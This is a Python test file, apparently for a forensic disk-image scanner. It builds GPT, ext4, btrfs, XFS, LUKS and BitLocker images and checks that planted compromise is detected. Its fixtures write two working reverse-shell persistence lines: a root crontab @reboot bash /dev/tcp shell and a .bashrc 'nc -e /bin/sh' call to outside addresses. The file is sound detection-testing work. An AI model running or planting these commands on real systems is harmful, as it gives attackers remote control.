    (full / "var/spool/cron/crontabs/root").write_text("@reboot /bin/bash -c 'sh -i >& /dev/tcp/203.0.113.50/443 0>&1'\n")
    (full / "home/cms").mkdir(parents=True)
    (full / "home/cms/.bashrc").write_text("alias ll='ls -l'\n(nc -e /bin/sh 203.0.113.51 8443 &) 2>/dev/null\n")
    (full / "boot/efi/EFI/debian").mkdir(parents=True)
    (full / "boot/efi/EFI/debian/grub.cfg").write_text(GRUB_CFG)
    (full / "etc/fstab").write_text(
        "# <file system> <mount point> <type> <options> <dump> <pass>\n"
        "UUID=0b7c6c4e-1d1a-4f5e-9a57-3c2b9e6f0a11 /  ext4 errors=remount-ro 0 1\n"
        "UUID=ABCD-1234  /boot/efi  vfat  umask=0077  0  1\n"
        "UUID=\"5f3e2d1c-0b9a-4877-8665-544332211000\" /home ext4 defaults 0 2\n"
        "LABEL=cmsvar /var ext4 defaults 0 2\n"
        "/dev/sda5 none swap sw 0 0\n"
    )
    on_dir = scan_image(full, workers=1)

    split = tmp_path / "split"
    root_tree, home_tree, var_tree, esp_tree = (split / n for n in ("root", "home", "var", "esp"))
    shutil.copytree(full, root_tree, symlinks=True)
    shutil.move(root_tree / "home", home_tree)
    shutil.move(root_tree / "var", var_tree)
    shutil.move(root_tree / "boot/efi", esp_tree)
    for d in ("home", "var", "boot/efi"):
        (root_tree / d).mkdir()
    mke2fs = _which("mke2fs")
    esp = tmp_path / "esp.img"
    subprocess.run(["truncate", "-s", "34M", str(esp)], check=True)
    subprocess.run([_which("mkfs.vfat"), "-F", "32", "-i", "ABCD1234", str(esp)], check=True, stdout=subprocess.DEVNULL)
    subprocess.run([_which("mcopy"), "-s", "-i", str(esp), str(esp_tree / "EFI"), "::/"], check=True,
                   env={**os.environ, "MTOOLS_SKIP_CHECK": "1"})
    images = {}
    for name, tree, extra in (("root", root_tree, ["-U", "0b7c6c4e-1d1a-4f5e-9a57-3c2b9e6f0a11"]),
                              ("home", home_tree, ["-U", "5f3e2d1c-0b9a-4877-8665-544332211000"]),
                              ("var", var_tree, ["-L", "cmsvar"])):
        images[name] = tmp_path / f"{name}.img"
        subprocess.run([mke2fs, "-q", "-F", "-t", "ext4", *extra, "-d", str(tree), str(images[name]), "24M"], check=True)
    disk = _disk(tmp_path / "disk.raw", "gpt", [(esp, 34, ESP), (images["root"], 24, LINUX), (images["home"], 24, LINUX),
                                                (images["var"], 24, LINUX)])
    on_disk = scan_image(disk, workers=1)

    def system_keys(result: ScanResult) -> set[tuple[str, str, str]]:
        return {(r, sev, p.split(":/", 1)[1] if ":/" in p else p) for r, sev, p in _keys(result)}

    assert system_keys(on_disk) == system_keys(on_dir)
    paths = {(f.category, f.evidence[0].path) for f in on_disk.findings}
    assert ("persistence", "p4:/var/spool/cron/crontabs/root") in paths
    assert ("persistence", "p3:/home/cms/.bashrc") in paths
    assert any(p == "p1:/boot/efi/EFI/debian/grub.cfg" for _, p in paths)
    assert on_disk.warnings[0] == ("disk (GPT, raw): scanned p1 fat (mounted at /boot/efi) at byte 1048576, p2 ext (root) at "
                                   "byte 36700160, p3 ext (mounted at /home) at byte 61865984, p4 ext (mounted at /var) at "
                                   "byte 87031808")
    assert {f.id for f in on_disk.findings} == {f.id for f in on_dir.findings}  # the same system, the same ids


# --- btrfs (btrfs restore), LUKS and BitLocker ------------------------------------------------------


def _btrfs(tree: Path, out: Path, size_mib: int) -> Path:
    subprocess.run(["truncate", "-s", f"{size_mib}M", str(out)], check=True)
    subprocess.run([_which("mkfs.btrfs"), "-q", "--rootdir", str(tree), str(out)], check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return out


def test_btrfs_root_partition_in_a_gpt_disk(tmp_path: Path, planted_tree: Path, dir_result: ScanResult) -> None:
    tree = tmp_path / "tree"
    shutil.copytree(planted_tree, tree, symlinks=True)
    os.symlink("/etc/shadow", tree / "etc/outside")  # a link out of the image: never followed nor restored
    fs = _btrfs(tree, tmp_path / "root.btrfs", 120)
    disk = _disk(tmp_path / "bt.raw", "gpt", [(fs, 120, LINUX)])
    result = scan_image(disk, workers=1)
    assert _keys(result, strip="p1:/") == _keys(dir_result)
    assert any("p1 btrfs (root)" in w for w in result.warnings)
    assert any("symbolic link(s) of the btrfs filesystem not restored" in w for w in result.warnings)


def test_btrfs_beyond_the_file_count_limit_is_refused_before_restoring(tmp_path: Path, planted_tree: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    fs = _btrfs(planted_tree, tmp_path / "root.btrfs", 120)
    root = _ext4(planted_tree, tmp_path / "root.img", 24)
    disk = _disk(tmp_path / "bt.raw", "gpt", [(fs, 120, LINUX), (root, 24, LINUX)])
    ran: list[str] = []
    real = subprocess.run

    def spy(argv, *args, **kwargs):  # type: ignore[no-untyped-def]
        ran.append(" ".join(map(str, argv[:2])))
        return real(argv, *args, **kwargs)

    monkeypatch.setattr(subprocess, "run", spy)
    count = sum(1 for _ in planted_tree.rglob("*")) + 1  # every inode with the root directory
    result = scan_image(disk, workers=1, limits=Limits(max_files=count - 1))
    assert not any(cmd.endswith("btrfs restore") for cmd in ran)
    refused = [w for w in result.warnings if w.startswith("p1 (GPT Linux filesystem")]
    # dump-tree's count holds the tree's own directory inodes too: at least the tree's members
    assert len(refused) == 1 and "inodes in the btrfs filesystem: beyond the file-count limit" in refused[0], refused
    assert int(refused[0].split(": ")[-2].split()[0]) >= count


def _luks(out: Path, version: int) -> Path:
    subprocess.run(["truncate", "-s", "20M", str(out)], check=True)
    key = out.with_suffix(".key")
    key.write_bytes(b"not-the-port's")
    subprocess.run([_which("cryptsetup"), "luksFormat", "-q", f"--type=luks{version}", "--pbkdf=pbkdf2",
                    "--pbkdf-force-iterations=1000", "--key-file", str(key), str(out)], check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return out


def _luks_dump(path: Path) -> tuple[str, str]:
    """(UUID, cipher) as cryptsetup itself reads them."""
    dump = subprocess.run([_which("cryptsetup"), "luksDump", str(path)], capture_output=True, text=True, check=True).stdout
    uuid_ = next(line.split()[-1] for line in dump.splitlines() if line.startswith("UUID:"))
    if "Cipher name:" in dump:  # LUKS1
        name = next(line.split()[-1] for line in dump.splitlines() if line.startswith("Cipher name:"))
        mode = next(line.split()[-1] for line in dump.splitlines() if line.startswith("Cipher mode:"))
        return uuid_, f"{name}-{mode}"
    return uuid_, next(line.split()[-1] for line in dump.splitlines() if line.strip().startswith("cipher:"))


def test_luks_and_bitlocker_volumes_are_findings_and_coverage_gaps(tmp_path: Path, planted_tree: Path,
                                                                   dir_result: ScanResult) -> None:
    luks1, luks2 = _luks(tmp_path / "l1.img", 1), _luks(tmp_path / "l2.img", 2)
    # No Linux tool writes BitLocker: its boot sector by hand, the -FVE-FS- OEM id and the
    # three FVE metadata offsets (bytes 176, 184, 192) as Windows 7 and later write them.
    bitlocker = bytearray(MIB)
    bitlocker[0:11] = b"\xebX\x90-FVE-FS-"
    struct.pack_into("<3Q", bitlocker, 176, 0x21000, 0x41000, 0x61000)
    bitlocker[510:512] = b"\x55\xaa"
    (tmp_path / "bl.img").write_bytes(bytes(bitlocker))
    root = _ext4(planted_tree, tmp_path / "root.img", 24)
    disk = _disk(tmp_path / "enc.raw", "gpt", [(root, 24, LINUX), (luks1, 20, LINUX), (luks2, 20, LINUX),
                                                (tmp_path / "bl.img", 1, "EBD0A0A2-B9E5-4433-87C0-68B6B72699C7")])
    result = scan_image(disk, workers=1)
    enc = sorted((f for f in result.findings if f.rule == "integrity.encrypted-volume"), key=lambda f: f.evidence[0].offset or 0)
    assert [(f.category, f.severity.name, f.evidence[0].values["partition"], f.evidence[0].offset) for f in enc] == [
        ("backdoor", "MEDIUM", "p2", 25 * MIB), ("backdoor", "MEDIUM", "p3", 45 * MIB), ("backdoor", "MEDIUM", "p4", 65 * MIB)]
    for f, image in zip(enc[:2], (luks1, luks2), strict=True):
        uuid_, cipher = _luks_dump(image)
        assert (f.evidence[0].values["uuid"], f.evidence[0].values["cipher"]) == (uuid_, cipher)
    assert enc[0].evidence[0].values["filesystem"] == "LUKS1" and enc[1].evidence[0].values["filesystem"] == "LUKS2"
    assert enc[1].evidence[0].values["keyslots"] == 1
    assert enc[2].evidence[0].values["metadata_offsets"] == [0x21000, 0x41000, 0x61000]
    gaps = [w for w in result.warnings if "not examined: encrypted" in w]
    assert len(gaps) == 3 and gaps[2].startswith("p4 (GPT Microsoft basic data, 1048576 bytes at byte 68157440): "
                                                 "not examined: encrypted (BitLocker, FVE metadata at bytes 135168")
    # the readable partition is scanned as before
    assert _keys(result, strip="p1:/") - {("integrity.encrypted-volume", "MEDIUM", "")} == _keys(dir_result)


def test_damaged_luks2_header_is_still_reported_with_what_it_says(tmp_path: Path, planted_tree: Path) -> None:
    luks2 = _luks(tmp_path / "l2.img", 2)
    uuid_ = _luks_dump(luks2)[0]  # read by cryptsetup before the damage
    with open(luks2, "r+b") as fh:  # the header size field (bytes 8-16) beyond the partition
        fh.seek(8)
        fh.write(struct.pack(">Q", 1 << 40))
    root = _ext4(planted_tree, tmp_path / "root.img", 24)
    disk = _disk(tmp_path / "enc.raw", "gpt", [(root, 24, LINUX), (luks2, 20, LINUX)])
    result = scan_image(disk, workers=1)
    [enc] = [f for f in result.findings if f.rule == "integrity.encrypted-volume"]
    assert enc.evidence[0].values["damaged"] == f"header size {1 << 40} out of range"
    assert enc.evidence[0].values["uuid"] == uuid_ and "cipher" not in enc.evidence[0].values


# --- XFS (forensics/xfs.py) ---------------------------------------------------------------------


def _xfs_proto(tree: Path) -> str:
    """A mkfs.xfs protofile that copies ``tree`` (names without blanks), links kept as links."""
    lines = ["/dummy", "0 0", "d--755 0 0"]

    def walk(d: Path, depth: int) -> None:
        for item in sorted(d.iterdir()):
            mode = item.lstat().st_mode
            pad = " " * depth
            if item.is_symlink():
                lines.append(f"{pad}{item.name} l--777 0 0 {os.readlink(item)}")
            elif item.is_dir():
                lines.append(f"{pad}{item.name} d--{stat.S_IMODE(mode) & 0o777:o} 0 0")
                walk(item, depth + 1)
                lines.append(f"{pad}$")
            else:
                suid = "u" if mode & stat.S_ISUID else "-"
                lines.append(f"{pad}{item.name} -{suid}-{stat.S_IMODE(mode) & 0o777:o} 0 0 {item}")

    walk(tree, 1)
    lines.append("$")
    return "\n".join(lines) + "\n"


def _xfs(tree: Path, out: Path, size_mib: int, options: tuple[str, ...] = ()) -> Path:
    proto = out.with_suffix(".proto")
    proto.write_text(_xfs_proto(tree))
    subprocess.run(["truncate", "-s", f"{size_mib}M", str(out)], check=True)
    subprocess.run([_which("mkfs.xfs"), "-q", *options, "-p", str(proto), str(out)], check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)
    return out


def test_xfs_root_partition_in_a_gpt_disk(tmp_path: Path, planted_tree: Path, dir_result: ScanResult) -> None:
    fs = _xfs(planted_tree, tmp_path / "root.xfs", 300)
    disk = _disk(tmp_path / "xfs.raw", "gpt", [(fs, 300, LINUX)])
    result = scan_image(disk, workers=1)
    assert _keys(result, strip="p1:/") == _keys(dir_result)
    assert any("p1 xfs (root)" in w for w in result.warnings)


# the default (v5, CRCs), large extent counts (inodes with flags2 NREXT64) and the older v4
# format (no CRCs: XD2B/XD2D directory blocks, BMAP B+tree blocks, v2 inodes)
@pytest.mark.parametrize("options", [(), ("-i", "nrext64=1"), ("-m", "crc=0")], ids=["v5", "nrext64", "v4"])
def test_xfs_files_links_and_large_directories_match_the_tree(tmp_path: Path, options: tuple[str, ...]) -> None:
    """Every directory form (short, block, leaf, node), extent lists and a file of many extents:
    each file's bytes, mode and each link's target equal the tree mkfs.xfs was given. (xfs_db
    reads small/ as local, block/ as 1 extent, leaf/ as 6 extents, node/ in B+tree form, 92 extents.)"""
    from cranewatch.forensics.xfs import open_xfs

    tree = tmp_path / "tree"
    (tree / "small").mkdir(parents=True)
    (tree / "small/a").write_text("a\n")
    for name, n in (("block", 40), ("leaf", 400), ("node", 6000)):
        (tree / name).mkdir()
        for i in range(n):
            (tree / name / f"entry-with-a-longish-name-{i:05d}").write_bytes(f"{name}{i}".encode() * (i % 7))
    (tree / "big.bin").write_bytes(bytes(range(256)) * 40000)  # 10 MB
    (tree / "suid").write_text("#!/bin/sh\n")
    os.chmod(tree / "suid", 0o4755)
    os.symlink("/etc/shadow", tree / "small/out")
    os.symlink("../node/entry-with-a-longish-name-00001", tree / "small/in")
    fs = _xfs(tree, tmp_path / "t.xfs", 300, options)
    image = open_xfs(fs, 0, fs.stat().st_size, tmp_path / "out", Limits())
    with image:
        got = tmp_path / "out"
        want = sorted(str(p.relative_to(tree)) for p in tree.rglob("*"))
        assert sorted(image.entries) == want
        for rel in want:
            a, b = tree / rel, got / rel
            if a.is_symlink():
                assert os.readlink(b) == os.readlink(a)
            elif a.is_file():
                assert b.read_bytes() == a.read_bytes(), rel
                assert stat.S_IMODE(b.stat().st_mode) == stat.S_IMODE(a.stat().st_mode), rel
        assert image.entries["suid"].mode & stat.S_ISUID


def test_xfs_beyond_the_file_count_limit_is_refused_before_writing(tmp_path: Path, planted_tree: Path) -> None:
    from cranewatch.forensics.xfs import open_xfs

    fs = _xfs(planted_tree, tmp_path / "root.xfs", 300)
    with pytest.raises(ImageError, match="beyond the file-count limit") as exc:
        open_xfs(fs, 0, fs.stat().st_size, tmp_path / "out", Limits(max_files=5))
    assert exc.value.location.offset == 0
    assert not (tmp_path / "out").exists()


def test_xfs_fuzzed_metadata_is_read_or_refused_with_a_location(tmp_path: Path, planted_tree: Path) -> None:
    """Bounded fuzzing (fixed seed, 30 volumes): bytes of the superblock, inode chunks and
    directory blocks changed at random; each volume is read or refused with a located
    ImageError, never another exception, and nothing is written outside its directory."""
    import random

    from cranewatch.forensics.xfs import open_xfs

    fs = _xfs(planted_tree, tmp_path / "root.xfs", 300)
    clean = fs.read_bytes()
    used = [i for i in range(0, len(clean), 4096) if clean[i : i + 4096].strip(b"\x00")][:64]  # metadata and files
    rng = random.Random(14)
    outcomes = {"read": 0, "refused": 0}
    for case in range(30):
        changes = [(block + rng.randrange(4096), rng.randrange(256)) for block in
                   (rng.choice(used) for _ in range(rng.randint(1, 40)))]
        with open(fs, "r+b") as fh:  # changed in place and restored: the 300 MB volume is not copied
            for at, value in changes:
                fh.seek(at)
                fh.write(bytes([value]))
        out = tmp_path / f"out{case}"
        try:
            with open_xfs(fs, 0, len(clean), out, Limits(max_total_bytes=64 << 20, max_files=5000)):
                outcomes["read"] += 1
        except ImageError as exc:
            assert exc.location is not None and exc.location.offset is not None
            outcomes["refused"] += 1
        with open(fs, "r+b") as fh:
            for at, _value in changes:
                fh.seek(at)
                fh.write(clean[at : at + 1])
        shutil.rmtree(out, ignore_errors=True)
    print(outcomes)
    assert sum(outcomes.values()) == 30
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("out")) == ["root.proto", "root.xfs"]
